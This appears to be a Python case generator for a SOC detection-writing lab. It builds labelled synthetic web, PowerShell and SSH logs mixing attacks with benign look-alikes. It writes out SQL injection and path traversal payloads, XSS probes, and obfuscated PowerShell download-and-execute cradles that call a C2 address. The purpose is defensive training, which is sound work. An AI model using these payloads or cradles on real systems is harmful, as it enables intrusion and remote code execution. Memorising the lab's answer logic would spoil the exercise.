"""Case generator for the "Detection writing" lab.

A ministry's security operations centre (SOC) has no SIEM rules yet. Each seed gives one day of
three logs — the public portal's nginx ``web_access.log``, Windows process-creation events for
PowerShell and friends (``powershell.log``) and a server's ``auth.log`` — in which attacks are mixed
with ordinary traffic and with harmless look-alikes (searches for "union council", a minister's
speech with an apostrophe, logon scripts run with ``-ExecutionPolicy Bypass``, ``-Encoding UTF8``
…). Every line is labelled while it is made; a detection question's expected answer is the
labelled lines of one file, so the learner's regex is scored on exactly what they can read.

The variety is per seed: which letter cases the attack keywords come in, how spaces and quotes
are encoded, which traversal encodings and PowerShell switch spellings appear. Naive patterns
lose recall and over-broad ones lose precision on every seed.

Consecutive seeds never share the identifying answers: the top SQL injection address's last
octet and its count follow the seed's parity, and the traversal target comes from a pool chosen
by parity.
"""

from __future__ import annotations

import base64
import hashlib
import random
from datetime import datetime, timedelta, timezone

from hifazat.labs.case import Case

YEAR = 2026
PKT = timezone(timedelta(hours=5))
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
TEST_NETS = ("192.0.2", "198.51.100", "203.0.113")

MINISTRIES = (
    ("Ministry of Planning, Development and Special Initiatives", "planning"),
    ("Ministry of Information Technology and Telecommunication", "moitt"),
    ("Ministry of Federal Education and Professional Training", "mofept"),
    ("Ministry of National Health Services", "nhsrc"),
    ("Ministry of Water Resources", "mowr"),
    ("Ministry of Commerce", "commerce"),
    ("Ministry of Housing and Works", "housing"),
    ("Ministry of Science and Technology", "most"),
    ("Ministry of Climate Change", "mocc"),
    ("Ministry of Maritime Affairs", "moma"),
)
STAFF = (
    "ahmed.raza", "ayesha.khan", "bilal.ahmed", "farhan.ali", "hina.qureshi", "imran.butt",
    "kashif.mehmood", "mehwish.iqbal", "naveed.akhtar", "saima.javed", "tariq.aziz",
    "usman.ghani", "zainab.malik", "rabia.shah", "faisal.hayat", "sadia.noor", "waqas.anwar",
    "nadia.hussain", "adeel.sheikh", "sana.riaz",
)  # fmt: skip
# Files the traversal campaign was after, besides /etc/passwd and win.ini: (file, path below
# the web root). Even and odd seeds draw from different pools.
TARGETS = (
    (
        ("database.yml", "config/database.yml"),
        ("wp-config.php", "wp-config.php"),
        ("settings.py", "portal/settings.py"),
        ("db.ini", "conf/db.ini"),
        ("config.inc.php", "includes/config.inc.php"),
        ("appsettings.json", "appsettings.json"),
    ),
    (
        (".env", ".env"),
        ("application.properties", "WEB-INF/classes/application.properties"),
        ("credentials.json", "config/credentials.json"),
        ("local.xml", "app/etc/local.xml"),
        ("connections.config", "App_Data/connections.config"),
        ("secrets.yaml", "config/secrets.yaml"),
    ),
)

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.2277.128",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Linux; Android 13; SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.64 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
)
BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
)
ATTACK_AGENTS = (
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Go-http-client/1.1",
)
PAGES = (
    "/", "/index.html", "/about-us", "/contact", "/news", "/tenders", "/careers", "/downloads",
    "/eoffice/login", "/eoffice/inbox", "/eoffice/dashboard", "/eoffice/drafts",
    "/notifications", "/directory", "/faq", "/rti/request", "/complaints/new",
)  # fmt: skip
STATIC = (
    "/static/css/main.min.css", "/static/js/app.min.js", "/static/js/jquery-3.7.1.min.js",
    "/static/img/logo.png", "/static/img/banner-1.jpg", "/static/fonts/jameel-noori.woff2",
    "/favicon.ico",
)  # fmt: skip
SEARCHES = (
    "tender+notice", "budget+2026-27", "leave+rules", "pension+calculator", "job+vacancies",
    "office+memorandum", "e-office+training", "rti+form", "procurement+rules", "holiday+list",
    "transfer+posting", "annual+report", "pay+scale+revision", "ppra+rules",
)  # fmt: skip
# Harmless requests that look like the attacks to a careless pattern (they are labelled benign).
SEARCH_TRAPS = (
    "union+council+services", "union+council+election+2026", "Union+Council+Islamabad",
    "select+committee+report", "Select+Committee+on+finance", "selection+board+results",
    "minister%27s+speech", "pakistan%27s+cyber+security+policy", "prime+minister%27s+package",
    "women%27s+day+2026", "children%27s+health+programme", "tender+notice...", "results...",
    "notice+(revised)...", "etc", "and+or+not", "sleep+study+leave",
)  # fmt: skip
FORM_TRAPS = (
    "/eoffice/forms/select-district?province=punjab",
    "/eoffice/forms/select-district?province=sindh",
    "/eoffice/forms/select-section?division=admin",
    "/eoffice/account/change-passwd",
    "/eoffice/account/reset-passwd?step=2",
    "/eoffice/login?next=%2Feoffice%2Finbox",
    "/eoffice/login?next=%2Feoffice%2Fdrafts%2Fnew",
    "/downloads/file?name=annual-report-2025..pdf",
    "/news/union-budget-briefing",
)
SCANNER_PROBES = (
    ("/wp-login.php", 404), ("/.env", 404), ("/phpmyadmin/", 404), ("/.git/config", 404),
    ("/admin/config.php", 404), ("/server-status", 403), ("/cgi-bin/luci", 404),
    ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200),
    ("/news/view?id=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", 400),
    ("/actuator/health", 404), ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
)  # fmt: skip


def _ip(rng: random.Random, used: set[str], parity: int | None = None) -> str:
    while True:
        last = rng.randint(2, 254)
        if parity is not None and last % 2 != parity:
            continue
        ip = f"{rng.choice(TEST_NETS)}.{last}"
        if ip not in used:
            used.add(ip)
            return ip


def _case(rng: random.Random, word: str, style: str) -> str:
    if style == "upper":
        return word.upper()
    if style == "lower":
        return word.lower()
    if style == "title":
        return word.capitalize()
    while True:  # mixed, and really mixed
        out = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)
        if out not in (word.upper(), word.lower(), word.capitalize()) or len(word) < 3:
            return out


class _Sqli:
    """SQL injection payloads in this seed's styles of case, spaces and quotes."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.styles = ["upper", rng.choice(["lower", "mixed"]), rng.choice(["mixed", "title"])]
        self.spaces = ["%20", *rng.sample(["+", "/**/", "%09"], rng.randint(1, 2))]
        self.quotes = ["%27", "'"] if rng.random() < 0.6 else ["%27"]
        self.equals = ["=", "%3D"] if rng.random() < 0.5 else ["="]

    def payload(self, family: str) -> str:
        rng = self.rng
        style, s, q = rng.choice(self.styles), rng.choice(self.spaces), rng.choice(self.quotes)
        eq = rng.choice(self.equals)

        def k(word: str) -> str:
            return _case(rng, word, style)

        v = str(rng.randint(1, 400))
        if family == "union":
            cols = ",".join([k("null")] * rng.randint(2, 6))
            kind = rng.randrange(4)
            if kind == 0:
                body = f"{k('union')}{s}{k('select')}{s}{cols}--{s}-"
                return f"-{v}{s}{body}"
            if kind == 1:
                return (
                    f"{v}{q}{s}{k('union')}{s}{k('all')}{s}{k('select')}{s}"
                    f"{k('concat')}(username,0x3a,password),{cols}{s}{k('from')}{s}users--{s}-"
                )
            if kind == 2:
                return f"{v}{q}{s}{k('order')}{s}{k('by')}{s}{rng.randint(3, 12)}--{s}-"
            return f"{v}{s}{k('union')}{s}{k('select')}{s}{k('table_name')},{cols}{s}{k('from')}{s}information_schema.tables"
        if family == "bool":
            kind = rng.randrange(4)
            n = rng.randint(1, 9)
            if kind == 0:
                return f"{v}{q}{s}{k('or')}{s}{q}1{q}{eq}{q}1"
            if kind == 1:
                return f"{v}{q}{s}{k('and')}{s}{n}{eq}{n}--{s}-"
            if kind == 2:
                return f"{v}{s}{k('and')}{s}{n}{eq}{n + rng.randint(0, 1)}"
            return f"{v}{s}{k('or')}{s}{n}{eq}{n}"
        if family == "time":
            kind = rng.randrange(4)
            d = rng.randint(3, 10)
            if kind == 0:
                return f"{v}{q}{s}{k('and')}{s}{k('sleep')}({d})--{s}-"
            if kind == 1:
                return f"{v}{s}{k('and')}{s}{k('sleep')}%28{d}%29"
            if kind == 2:
                return f"{v}{q};{s}{k('waitfor')}{s}{k('delay')}{s}{q}0:0:{d}{q}--"
            return f"{v}{s}{k('and')}{s}{rng.randint(1000, 9999)}{eq}({k('select')}{s}{rng.randint(1000, 9999)}{s}{k('from')}{s}{k('pg_sleep')}({d}))"
        if family == "error":
            if rng.random() < 0.5:
                return f"{v}{s}{k('and')}{s}{k('extractvalue')}(1,{k('concat')}(0x7e,{k('version')}()))"
            return f"{v}{q}{s}{k('and')}{s}{k('updatexml')}(1,{k('concat')}(0x7e,{k('user')}()),1)--{s}-"
        if family == "login":
            return (
                rng.choice(["admin", "administrator", "eoffice.admin"])
                + q
                + rng.choice(["--", f"--{s}-", "%23", "/*"])
            )
        # load_file: reads /etc/passwd through the database; SQL injection, not traversal
        return f"-{v}{s}{k('union')}{s}{k('select')}{s}{k('load_file')}(%27%2Fetc%2Fpasswd%27),{k('null')}"


SQLI_PLACES = (
    "/news/view?id={p}", "/tenders/detail?tid={p}", "/directory/person?id={p}",
    "/downloads/file?doc_id={p}", "/notifications?cat={p}", "/search?q={p}",
)  # fmt: skip
TRAVERSAL_PLACES = (
    "/downloads/file?name={p}", "/static/view?page={p}", "/eoffice/attachment?path={p}",
    "/api/v1/report?template={p}",
)  # fmt: skip
# Traversal shapes: how "../" is written.
TRAVERSAL_STEPS = {
    "plain": "../",
    "slash-encoded": "..%2f",
    "all-encoded": "%2e%2e%2f",
    "dots-encoded": "%2e%2e/",
    "backslash": "..%5c",
    "double": "%252e%252e%252f",
    "nested": "....//",
    "overlong": "..%c0%af",
}


def _traversal_step(rng: random.Random, shape: str, upper: bool) -> str:
    step = TRAVERSAL_STEPS[shape]
    if upper and "%" in step:
        step = "".join(c.upper() if c.isalpha() and rng.random() < 0.7 else c for c in step)
    return step


def _stamp(day: datetime, seconds: int) -> str:
    t = day + timedelta(seconds=seconds)
    return f"{t.day:02d}/{MONTHS[t.month - 1]}/{t.year}:{t:%H:%M:%S} +0500"


def _web_log(rng: random.Random, seed: int, day: datetime, domain: str, used: set[str]):
    """(lines, sqli labels, traversal labels, facts)."""
    events: list[
        tuple[int, str, str, int, str, str, str]
    ] = []  # t, ip, request, status, ref, ua, label
    parity = seed % 2

    def add(t, ip, path, status, ua, label="", method="GET", ref="-"):
        events.append((t, ip, f"{method} {path} HTTP/1.1", status, ref, ua, label))

    def daytime() -> int:
        if rng.random() < 0.85:
            return rng.randint(8 * 3600, 18 * 3600)
        return rng.randint(0, 86399)

    site = f"https://portal.{domain}"
    # ordinary visitors and staff
    visitors = [_ip(rng, used) for _ in range(rng.randint(25, 40))]
    visitors += [
        f"10.{rng.randint(10, 60)}.{rng.randint(0, 9)}.{rng.randint(2, 250)}" for _ in range(12)
    ]
    agents = {ip: rng.choice(BROWSERS) for ip in visitors}
    for _ in range(rng.randint(420, 560)):
        ip, t = rng.choice(visitors), daytime()
        r = rng.random()
        if r < 0.35:
            add(t, ip, rng.choice(PAGES), 200, agents[ip], ref=site + "/")
        elif r < 0.6:
            add(t, ip, rng.choice(STATIC), rng.choice([200, 200, 304]), agents[ip], ref=site + "/")
        elif r < 0.72:
            add(t, ip, f"/search?q={rng.choice(SEARCHES)}", 200, agents[ip], ref=site + "/")
        elif r < 0.82:
            add(
                t,
                ip,
                f"/news/view?id={rng.randint(100, 980)}",
                200,
                agents[ip],
                ref=site + "/news",
            )
        elif r < 0.9:
            add(t, ip, f"/tenders/detail?tid={rng.randint(2000, 2400)}", 200, agents[ip])
        elif r < 0.95:
            add(
                t,
                ip,
                "/eoffice/login",
                302,
                agents[ip],
                method="POST",
                ref=site + "/eoffice/login",
            )
        else:
            add(t, ip, f"/api/v1/notifications?since={rng.randint(1, 999)}", 200, agents[ip])
    for _ in range(rng.randint(15, 30)):
        add(daytime(), rng.choice(visitors[:8]), rng.choice(PAGES), 200, rng.choice(BOTS))
    # look-alikes: harmless requests a careless pattern flags
    for _ in range(rng.randint(40, 55)):
        ip = rng.choice(visitors)
        if rng.random() < 0.55:
            add(
                daytime(),
                ip,
                f"/search?q={rng.choice(SEARCH_TRAPS)}",
                200,
                agents[ip],
                ref=site + "/",
            )
        else:
            add(
                daytime(), ip, rng.choice(FORM_TRAPS), 200, agents[ip], ref=site + "/eoffice/inbox"
            )
    # internet background noise: scanners probing for well-known files (neither label)
    for _ in range(rng.randint(3, 5)):
        ip, t = _ip(rng, used), rng.randint(0, 86000)
        for path, status in rng.sample(SCANNER_PROBES, rng.randint(2, 5)):
            add(t, ip, path, status, rng.choice(ATTACK_AGENTS))
            t += rng.randint(1, 30)

    # SQL injection: one address does most of it, with sqlmap; a few others try by hand
    sqli = _Sqli(rng)
    families = ["union", "bool", "time", "error", "login"]
    weights = [rng.uniform(1.0, 2.5) for _ in families]
    top_ip = _ip(rng, used, parity)
    top_count = rng.randrange(24 + parity, 49, 2)
    start = rng.randint(1 * 3600, 20 * 3600)
    browse = rng.choice(BROWSERS)
    for i in range(rng.randint(6, 12)):  # the attacker looks around first (not injection)
        add(start - 600 + i * rng.randint(20, 50), top_ip, rng.choice(PAGES[:8]), 200, browse)
    sqlmap = f"sqlmap/1.{rng.randint(6, 8)}.{rng.randint(1, 12)}#stable (https://sqlmap.org)"
    load_file_at = rng.randrange(top_count)
    t = start
    for i in range(top_count):
        family = "load_file" if i == load_file_at else rng.choices(families, weights)[0]
        place = (
            rng.choice(SQLI_PLACES[:5]) if family != "login" else "/eoffice/login?user={p}&pass=x"
        )
        status = rng.choice([200, 200, 500, 302 if family == "login" else 200])
        ua = sqlmap if rng.random() < 0.6 else browse
        add(t, top_ip, place.format(p=sqli.payload(family)), status, ua, label="sqli")
        t += rng.randint(1, 40)
    others = {}
    for _ in range(rng.randint(2, 3)):
        ip = _ip(rng, used)
        n = rng.randint(3, top_count - 10)
        others[ip] = n
        ua, t = rng.choice(ATTACK_AGENTS), rng.randint(0, 80000)
        for _ in range(n):
            family = rng.choices(families, weights)[0]
            place = (
                rng.choice(SQLI_PLACES) if family != "login" else "/eoffice/login?user={p}&pass=x"
            )
            add(
                t,
                ip,
                place.format(p=sqli.payload(family)),
                rng.choice([200, 500, 403]),
                ua,
                "sqli",
            )
            t += rng.randint(2, 300)

    # path traversal: one or two addresses; /etc/passwd, win.ini and one application file
    pool = TARGETS[parity]
    target_name, target_path = pool[(seed // 2 + rng.randrange(3)) % len(pool)]
    shapes = list(TRAVERSAL_STEPS)
    rng.shuffle(shapes)
    shapes = shapes[: rng.randint(5, 7)]
    if "plain" not in shapes:
        shapes[0] = "plain"
    upper = rng.random() < 0.6
    trav_ips = [_ip(rng, used) for _ in range(rng.randint(1, 2))]
    trav_count = 0
    target_lines = 0
    for n, ip in enumerate(trav_ips):
        ua, t = rng.choice(ATTACK_AGENTS), rng.randint(3600, 82000)
        lines = rng.randint(14, 24) if n == 0 else rng.randint(6, 12)
        for i in range(lines):
            shape = shapes[i % len(shapes)] if i < len(shapes) else rng.choice(shapes)
            step = _traversal_step(rng, shape, upper)
            depth = rng.randint(3, 8)
            r = rng.random()
            if n == 0 and (i % 4 == 3 or (i == lines - 1 and target_lines < 3)):
                goal, depth = target_path, rng.randint(1, 4)
                target_lines += 1
            elif r < 0.7:
                goal = "etc/passwd"
            else:
                goal = "windows/win.ini"
            if shape in ("slash-encoded", "all-encoded", "backslash", "double", "overlong"):
                sep = {"backslash": "%5c", "double": "%252f", "overlong": "%c0%af"}.get(
                    shape, "%2f"
                )
                goal = goal.replace("/", sep)
            path = rng.choice(TRAVERSAL_PLACES).format(p=step * depth + goal)
            add(t, ip, path, rng.choice([400, 403, 404, 404, 200]), ua, label="traversal")
            trav_count += 1
            t += rng.randint(1, 20)

    events.sort(key=lambda e: e[0])
    lines, sqli_labels, trav_labels = [], [], []
    for t, ip, request, status, ref, ua, label in events:
        size = rng.randint(180, 48000) if status == 200 else rng.randint(150, 600)
        lines.append(f'{ip} - - [{_stamp(day, t)}] "{request}" {status} {size} "{ref}" "{ua}"')
        sqli_labels.append(label == "sqli")
        trav_labels.append(label == "traversal")
    facts = {
        "top_ip": top_ip,
        "top_count": top_count,
        "other_sqli": others,
        "traversal_ips": trav_ips,
        "traversal_count": trav_count,
        "target": target_name,
        "target_path": target_path,
        "target_lines": target_lines,
        "sqli_styles": sqli.styles,
        "sqli_spaces": sqli.spaces,
        "traversal_shapes": shapes,
    }
    return lines, sqli_labels, trav_labels, facts


# --- PowerShell / process creation --------------------------------------------------------------

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
BENIGN_PROCESSES = (
    (r"C:\Windows\explorer.exe", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'),
    (r"C:\Windows\explorer.exe", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "\\\\fs01\\{div}\\letters\\draft-{n}.docx"'),
    (r"C:\Windows\explorer.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument https://portal.{domain}/eoffice/inbox'),
    (r"C:\Windows\System32\services.exe", r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\System32\cmd.exe", r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\ipconfig.exe", "ipconfig  /all"),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\gpupdate.exe", "gpupdate  /force"),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\certutil.exe", r"certutil  -encode C:\Temp\{div}-ca.cer C:\Temp\{div}-ca.b64"),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\net.exe", r"net  use Z: \\fs01\{div}"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\wuauclt.exe", r'"C:\Windows\system32\wuauclt.exe" /RunHandlerComServer'),
)  # fmt: skip
BENIGN_PS = (
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \\\\fs01\\netlogon\\map-drives.ps1",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\{div}-backup.ps1",
    'powershell.exe -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -File "C:\\Program Files\\NetAgent\\health-check.ps1"',
    "powershell.exe -WindowStyle Hidden -NoProfile -File C:\\ProgramData\\Inventory\\collect.ps1",
    'powershell.exe -NoProfile -Command "Get-Content C:\\Logs\\eoffice-app.log -Tail 50 -Encoding UTF8"',
    'powershell.exe -Command "Get-ChildItem \\\\fs01\\{div} -Recurse | Export-Csv C:\\Temp\\{div}-files.csv -Encoding UTF8 -NoTypeInformation"',
    'powershell.exe -Command "Invoke-WebRequest -Uri https://wsus.{domain}/agents/netagent-4.2.msi -OutFile C:\\Temp\\netagent-4.2.msi"',
    'powershell.exe -Command "Invoke-Command -ComputerName FS01 -ScriptBlock {{ Get-Service LanmanServer }}"',
    'powershell.exe -NoProfile -Command "Get-Service spooler | Restart-Service"',
    'powershell.exe -Command "Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force; Import-Module ActiveDirectory"',
    'powershell.exe -Command "Get-ADUser {user} -Properties LastLogonDate"',
    'powershell.exe -Command "Expand-Archive C:\\Temp\\reports-{n}.zip -DestinationPath C:\\Reports"',
    'powershell.exe -Command "Get-WinEvent -LogName Security -MaxEvents 20"',
    'powershell.exe -Command "Test-NetConnection fs01 -Port 445"',
    'powershell.exe -Command "Get-Help about_Execution_Policies"',
    "powershell.exe -Command \"[Convert]::ToBase64String([IO.File]::ReadAllBytes('C:\\Temp\\{div}-ca.cer')) | Out-File C:\\Temp\\ca.txt -Encoding ascii\"",
)
ENCODED_SWITCHES = ("-enc", "-EncodedCommand", "-e", "-ec", "-en", "-encod", "-EncodedC")
PREFIXES = (
    "-nop -w hidden",
    "-NoP -NonI -W Hidden -Exec Bypass",
    "-nop -w 1",
    "-NoProfile -WindowStyle Hidden",
    "",
)
SCRIPTS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://{c2}/{f}.ps1')",
    '$c=New-Object System.Net.WebClient;$c.DownloadFile(\'http://{c2}/{f}.exe\',"$env:TEMP\\{f}.exe");Start-Process "$env:TEMP\\{f}.exe"',
    "iex(iwr -useb http://{c2}/{f}.ps1)",
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAO1X')); IEX (New-Object IO.StreamReader($s)).ReadToEnd()",
)


def _ps_encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _ps_malicious(rng: random.Random, style: dict, c2: str) -> str:
    f = rng.choice(("update", "stage2", "svc", "rpt", "a", "init", "payload"))
    kind = rng.choices(
        ("encoded", "cradle", "webclient", "tick", "concat", "scriptblock"), style["weights"]
    )[0]
    exe = rng.choice(("powershell.exe", "powershell", "PowerShell.exe", "POWERSHELL.EXE"))
    pre = rng.choice(PREFIXES)
    pre = f" {pre}" if pre else ""
    if kind == "encoded":
        script = rng.choice(SCRIPTS).format(c2=c2, f=f)
        switch = rng.choice(style["switches"])
        switch = switch if rng.random() < 0.7 else _case(rng, switch, "mixed")
        return f"{exe}{pre} {switch} {_ps_encoded(script)}"
    if kind == "cradle":
        iex = rng.choice(("IEX", "iex", "Invoke-Expression", "invoke-expression"))
        get = rng.choice(
            (
                f"(New-Object Net.WebClient).DownloadString('http://{c2}/{f}.ps1')",
                f"(iwr -UseBasicParsing http://{c2}/{f}.ps1)",
                f"(Invoke-WebRequest http://{c2}/{f}.ps1).Content",
            )
        )
        return f'{exe}{pre} -c "{iex} {get}"'
    if kind == "webclient":
        return (
            f"{exe}{pre} -Command \"(New-Object System.Net.WebClient).DownloadFile('http://{c2}/{f}.exe',"
            f"'C:\\Users\\Public\\{f}.exe'); Start-Process 'C:\\Users\\Public\\{f}.exe'\""
        )
    if kind == "tick":
        iex = rng.choice(("I`E`X", "i`ex", "Ie`X"))
        return f"{exe}{pre} -c \"{iex} (New-Object Net.WebClient).DownloadString('http://{c2}/{f}.ps1')\""
    if kind == "concat":
        return (
            f"{exe}{pre} -c \"$w=New-Object Net.WebClient; IEX $w.('Down'+'loadString')"
            f"('http://{c2}/{f}.ps1')\""
        )
    return f"{exe}{pre} -c \"& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://{c2}/{f}.ps1')))\""


def _ps_log(rng: random.Random, day: datetime, domain: str, netbios: str, used: set[str]):
    hosts = [
        f"WS-{rng.choice(['ADM', 'FIN', 'HR', 'IT', 'PS', 'REG'])}-{rng.randint(1, 299):03d}"
        for _ in range(14)
    ]
    servers = ["FS01", "DC01", "APP02"]
    users = rng.sample(STAFF, 10)
    divisions = ("admin", "finance", "hr", "it", "legal", "registry")
    c2 = _ip(rng, used)
    switches = rng.sample(ENCODED_SWITCHES, rng.randint(3, 5))
    if "-enc" not in switches:
        switches[0] = "-enc"
    style = {
        "switches": switches,
        "weights": [
            rng.uniform(3, 5),
            *(rng.uniform(0.7, 1.6) for _ in range(4)),
            rng.uniform(0.3, 0.8),
        ],
    }
    events = []
    for _ in range(rng.randint(260, 340)):
        t = rng.randint(8 * 3600, 18 * 3600)
        host, user = rng.choice(hosts + servers), rng.choice(users)
        div = rng.choice(divisions)
        if rng.random() < 0.55:
            parent, image, cmd = rng.choice(BENIGN_PROCESSES)
            cmd = cmd.format(div=div, n=rng.randint(100, 999), domain=domain)
        else:
            parent = rng.choice(
                (
                    r"C:\Windows\explorer.exe",
                    r"C:\Windows\System32\svchost.exe",
                    r"C:\Windows\System32\cmd.exe",
                )
            )
            image = PS
            cmd = rng.choice(BENIGN_PS).format(
                div=div, n=rng.randint(100, 999), domain=domain, user=user
            )
        events.append((t, host, user, parent, image, cmd, False))
    victims = rng.sample(hosts, rng.randint(2, 4))
    n_bad = rng.randint(28, 44)
    for _ in range(n_bad):
        t = rng.randint(0, 86399)
        host = rng.choice(victims)
        parent = rng.choice(
            (
                r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                r"C:\Windows\System32\wscript.exe",
                r"C:\Windows\System32\cmd.exe",
                r"C:\Windows\System32\mshta.exe",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            )
        )
        cmd = _ps_malicious(rng, style, c2)
        image = PS
        if parent.endswith("wscript.exe") and rng.random() < 0.5:  # cmd /c wrapper
            image = r"C:\Windows\System32\cmd.exe"
            cmd = f'cmd.exe /c "{cmd}"'
        events.append((t, host, rng.choice(users), parent, image, cmd, True))
    events.sort(key=lambda e: e[0])
    lines, labels = [], []
    rec = rng.randint(1_000_000, 9_000_000)
    for t, host, user, parent, image, cmd, bad in events:
        rec += rng.randint(3, 400)
        when = (day + timedelta(seconds=t)).strftime("%Y-%m-%dT%H:%M:%S+05:00")
        pid = rng.randrange(1000, 30000, 4)
        lines.append(
            f"{when} {host}.{domain} Security EventID=4688 RecordNumber={rec} "
            f"SubjectUserName={netbios}\\{user} NewProcessId=0x{pid:x} "
            f"ParentProcessName={parent} NewProcessName={image} CommandLine={cmd}"
        )
        labels.append(bad)
    return lines, labels, {"c2": c2, "victims": victims, "switches": switches, "malicious": n_bad}


# --- auth.log ---------------------------------------------------------------------------------


def _auth_log(rng: random.Random, day: datetime, host: str, used: set[str]):
    events = []  # (t, order, process key, message, label)
    admins = rng.sample([s.split(".")[0] for s in STAFF], 4)
    office = f"10.{rng.randint(10, 60)}.{rng.randint(1, 9)}"
    procs = [0]

    def sshd(t, msg, label=False, key=None):
        events.append((t, len(events), key, msg, label))

    def newkey():
        procs[0] += 1
        return procs[0]

    names = (
        "admin",
        "test",
        "oracle",
        "postgres",
        "ubuntu",
        "git",
        "guest",
        "ftpuser",
        "deploy",
        "support",
        "user1",
        "mysql",
    )
    attackers = [_ip(rng, used) for _ in range(rng.randint(2, 4))]
    for ip in attackers:
        t = rng.randint(0, 80000)
        for _ in range(rng.randint(6, 20)):
            key, port = newkey(), rng.randint(32768, 60999)
            user = "root" if rng.random() < 0.3 else rng.choice(names)
            valid = user == "root"
            if not valid:
                sshd(t, f"Invalid user {user} from {ip} port {port}", key=key)
                sshd(t, "pam_unix(sshd:auth): check pass; user unknown", key=key)
            tail = "  user=root" if valid else ""
            sshd(
                t,
                f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}{tail}",
                key=key,
            )
            label = "root" if valid else f"invalid user {user}"
            tries = rng.choice((1, 1, 2, 3))
            sshd(t + 2, f"Failed password for {label} from {ip} port {port} ssh2", True, key)
            if tries > 1 and rng.random() < 0.5:
                sshd(
                    t + 6,
                    f"message repeated {tries - 1} times: [ Failed password for {label} from {ip} port {port} ssh2]",
                    True,
                    key,
                )
            elif tries > 1:
                for i in range(tries - 1):
                    sshd(
                        t + 4 + 3 * i,
                        f"Failed password for {label} from {ip} port {port} ssh2",
                        True,
                        key,
                    )
            if tries > 1:
                rest = f" logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}{tail}"
                sshd(
                    t + 12,
                    f"PAM {tries - 1} more authentication failure{'s' if tries > 2 else ''};{rest}",
                    key=key,
                )
            if rng.random() < 0.45:
                sshd(
                    t + 12,
                    f"Failed none for invalid user {user} from {ip} port {port} ssh2"
                    if not valid
                    else f"Connection closed by authenticating user root {ip} port {port} [preauth]",
                    key=key,
                )
            else:
                who = "authenticating user" if valid else "invalid user"
                sshd(t + 12, f"Disconnected from {who} {user} {ip} port {port} [preauth]", key=key)
            t += rng.randint(5, 120)
    for _ in range(rng.randint(30, 45)):
        t, key, port = rng.randint(8 * 3600, 18 * 3600), newkey(), rng.randint(49152, 65535)
        user = rng.choice(admins)
        ip = f"{office}.{rng.randint(20, 80)}"
        r = rng.random()
        if r < 0.15:
            sshd(t, f"Failed password for {user} from {ip} port {port} ssh2", True, key)
            t += rng.randint(3, 9)
            sshd(t, f"Accepted password for {user} from {ip} port {port} ssh2", key=key)
        elif r < 0.4:
            sshd(
                t,
                f"Failed publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{base64.b64encode(rng.randbytes(32)).decode().rstrip('=')}",
                key=key,
            )
            sshd(t + 1, f"Accepted password for {user} from {ip} port {port} ssh2", key=key)
        else:
            fp = base64.b64encode(rng.randbytes(32)).decode().rstrip("=")
            sshd(
                t,
                f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{fp}",
                key=key,
            )
        sshd(
            t,
            f"pam_unix(sshd:session): session opened for user {user}(uid={1000 + admins.index(user)}) by (uid=0)",
            key=key,
        )
